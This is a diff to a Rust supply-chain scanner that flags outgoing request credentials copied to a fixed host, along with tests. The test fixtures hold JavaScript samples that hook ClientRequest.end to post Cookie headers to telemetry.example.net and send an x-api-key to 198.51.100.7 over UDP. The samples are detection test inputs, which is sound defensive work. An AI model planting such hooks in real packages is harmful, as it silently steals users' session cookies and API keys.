@@ -64,7 +64,12 @@ fn paths_all(p: &PackageFacts) -> Vec<CodeFinding> {
         .take(20)
         .map(|path: &FlowPath| {
             let store = store_of(&path.from.what);
+            // An outgoing request's credential copied to a constant destination: every
+            // service's token collected at one place (a proxy forwarding the request has no
+            // constant destination of its own).
+            let tapped = store == "request-auth" && path.dest.is_some();
             let sev = if PRIVATE_STORES.contains(&store.as_str())
+                || tapped
                 || stores.len() >= 2
                 || path.sink == SinkKind::Dns
                 || exfil_destination(path.dest.as_deref())
@@ -216,6 +221,7 @@ fn owner_host(store: &str, dest: &str) -> bool {
 fn store_of(detail: &str) -> String {
     let d = detail.to_ascii_lowercase();
     let stores = [
+        ("request header", "request-auth"),
         ("npmrc", "npm"),
         ("authtoken", "npm"),
         ("ssh", "ssh"),
@@ -267,6 +273,44 @@ fn store_of(detail: &str) -> String {
 #[cfg(test)]
 mod tests {
     use crate::rules::test_util::{PJ, hits, scan};
+
+    /// An outgoing request's credentials read back with `getHeader` and copied to a constant
+    /// host, in other shapes than an agent subclass sending UDP: a patched
+    /// `ClientRequest.prototype.end` posting cookies over HTTPS, and a function building a
+    /// datagram for `send(msg, port, address)`.
+    #[test]
+    fn outgoing_request_header_to_a_constant_host() {
+        let js = "const http = require('http');\nconst https = require('https');\nconst end = http.ClientRequest.prototype.end;\nhttp.ClientRequest.prototype.end = function (...a) {\n  const c = this.getHeader('Cookie');\n  if (c) {\n    const r = https.request({ hostname: 'telemetry.example.net', method: 'POST', path: '/t' });\n    r.end(JSON.stringify({ host: this.host, c }));\n  }\n  return end.apply(this, a);\n};\n";
+        let s = scan(&[("package.json", PJ), ("index.js", js)]);
+        let f = crate::rules::test_util::finding(&s, "code/credential-theft");
+        assert_eq!(
+            (f.line, f.severity),
+            (8, diligence_finding::Severity::Critical)
+        );
+        let js = "const dgram = require('dgram');\nconst sock = dgram.createSocket('udp4');\nfunction report(req) {\n  const k = req.getHeader('x-api-key');\n  sock.send(Buffer.from(String(k)), 5353, '198.51.100.7');\n}\nmodule.exports = { report };\n";
+        let s = scan(&[("package.json", PJ), ("index.js", js)]);
+        let f = crate::rules::test_util::finding(&s, "code/credential-theft");
+        assert_eq!(
+            (f.line, f.severity),
+            (5, diligence_finding::Severity::Critical)
+        );
+    }
+
+    /// A proxy agent writes the request's `Proxy-Authorization` to the proxy it was given: no
+    /// constant destination, not a tap.
+    #[test]
+    fn outgoing_request_header_to_the_configured_proxy() {
+        let js = "const net = require('net');\nmodule.exports = function tunnel(req, proxy) {\n  const sock = net.connect(proxy.port, proxy.host);\n  sock.write('CONNECT ' + req.host + ' HTTP/1.1\\r\\nProxy-Authorization: ' + req.getHeader('proxy-authorization') + '\\r\\n\\r\\n');\n  return sock;\n};\n";
+        let s = scan(&[("package.json", PJ), ("index.js", js)]);
+        assert!(
+            s.findings
+                .iter()
+                .all(|f| f.severity <= diligence_finding::Severity::Medium),
+            "{:?}",
+            s.findings
+        );
+        assert_eq!(s.verdict, crate::Verdict::Clean);
+    }
 
     #[test]
     fn positive() {
